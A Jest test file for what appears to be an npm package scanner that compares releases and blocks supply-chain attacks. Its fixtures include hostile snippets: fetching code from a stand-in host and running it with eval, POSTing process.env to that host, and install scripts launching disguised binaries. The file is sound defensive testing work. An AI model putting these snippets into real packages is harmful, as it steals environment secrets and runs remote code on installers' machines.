import { describe, expect, test } from '@jest/globals';
import { createHash } from 'node:crypto';
import type { JsonObject } from '../../src/core/json.js';
import { judgePair, type Judged } from './pair.js';

type Files = { readonly [path: string]: string | Uint8Array };
const [old, fresh] = ['2026-07-10T00:00:00.000Z', '2026-11-20T00:00:00.000Z'];
const plain = { 'index.js': 'module.exports = 1;\n' };
const judged = (files: Files, more: { readonly manifest?: JsonObject; readonly before?: Files; readonly brings?: readonly { readonly name: string; readonly text: string; readonly since?: string }[] } = {}): Promise<Judged> => judgePair({
  name: 'left', before: { version: '1.0.0', publishedAt: old, files: { ...plain, ...more.before } as never }, after: { version: '1.0.1', publishedAt: fresh, ...(more.manifest ? { manifest: more.manifest } : {}), files: { ...plain, ...files } as never },
  brings: (more.brings ?? []).map(({ name, text, since = old }) => ({ name, versions: [{ version: '1.0.0', publishedAt: since, files: { 'index.js': text } }] })),
});
const told = ({ outcome, findings }: Judged): readonly unknown[] => [outcome, findings.filter((one) => one.level === 'default').map((one) => `${one.check} ${one.severity}`)];

/** A shared library for Node by its first bytes, with nothing behind them that could run. */
const library = (seed: string): Uint8Array => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 62, 0]), ...Array.from({ length: 400 }, (_, index) => createHash('sha256').update(`${seed} ${index}`).digest())]);

describe('one act in two packages', () => {
  const sends = 'module.exports = (what) => fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(what) });\n';
  test('each half is told where it shows by itself', async () => {
    // The half that runs what it downloads needs nobody else.
    expect(told(await judged({ 'index.js': 'require("right");\n' }, { manifest: { dependencies: { right: '^1.0.0' } }, brings: [{ name: 'right', since: fresh, text: 'fetch("https://collect.example.invalid/x").then((one) => one.text()).then(eval);\n' }] }))).toEqual(['block', expect.arrayContaining(['remote-code critical'])]);
  });
  // To be moved up once a profile says what becomes of the arguments that others hand to it.
  test.failing.each<readonly [string, string, string]>([
    ['the environment is handed to a package that sends what it gets', 'require("right")(process.env);\n', sends],
    ['a package gives the environment out, and another sends it', `fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(require("right")()) });\n`, 'module.exports = () => process.env;\n'],
  ])('not stopped yet: %s', async (_what, mine, theirs) => {
    const { outcome } = await judged({ 'index.js': mine }, { manifest: { dependencies: { right: '^1.0.0' } }, brings: [{ name: 'right', text: theirs }] });
    expect(outcome).toBe('block');
  });
});

type Row = readonly [string, Files, { readonly before?: Files; readonly manifest?: JsonObject }, readonly string[]];
const loads = { 'index.js': 'module.exports = require("./addon.node");\n' };

describe('what is no code that can be read', () => {
  test.each<Row>([
    ['a program that an install step newly starts', { 'setup.js': 'require("child_process").execFileSync(__dirname + "/tool");\n', tool: library('a') }, { manifest: { scripts: { postinstall: 'node setup.js' } } }, ['binary-file high', 'install-script medium']],
    ['a library that is new to the package, loaded', { ...loads, 'addon.node': library('a') }, {}, ['binary-file high']],
    ['a program under the name of a script', { 'index.js': 'require("child_process").execFileSync(__dirname + "/tool.js");\n', 'tool.js': library('a') }, {}, ['binary-file high']],
  ])('%s', async (_what, files, more, expected) => {
    expect(told(await judged(files, more))).toEqual(['block', expect.arrayContaining([...expected])]);
  });
  // Named and folded. To be moved up once evidence of origin is read, without which a binary is somebody's word.
  test.failing.each<Row>([
    ['another library in the place of one', { ...loads, 'addon.node': library('b') }, { before: { ...loads, 'addon.node': library('a') } }, []],
    ['WebAssembly that is handed the environment', { 'index.js': 'WebAssembly.instantiate(require("fs").readFileSync(__dirname + "/x.wasm"), { e: process.env });\n', 'x.wasm': Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, 1, 4]) }, {}, []],
    ['a library for another system than this one', { 'linux/addon.node': library('a') }, { manifest: { os: ['win32'], cpu: ['arm64'] } }, []],
  ])('not stopped yet: %s', async (_what, files, more) => {
    expect((await judged(files, more)).outcome).not.toBe('pass');
  });
  test('is a fact with its digest, whatever system it is for', async () => {
    const { profile } = await judged({ 'linux/addon.node': library('a') }, { manifest: { os: ['win32'] } });
    expect(profile.signals.filter((one) => one.kind === 'binary').map((one) => [one.what, one.path])).toEqual([['library', 'linux/addon.node']]);
    const { profile: again } = await judged({ ...loads, 'addon.node': library('a') }, {});
    expect(again.signals.filter((one) => one.kind === 'binary').map((one) => [one.what, one.path, one.trigger])).toEqual([['loaded', 'index.js', 'load'], ['library', 'addon.node', 'load']]);
  });
});
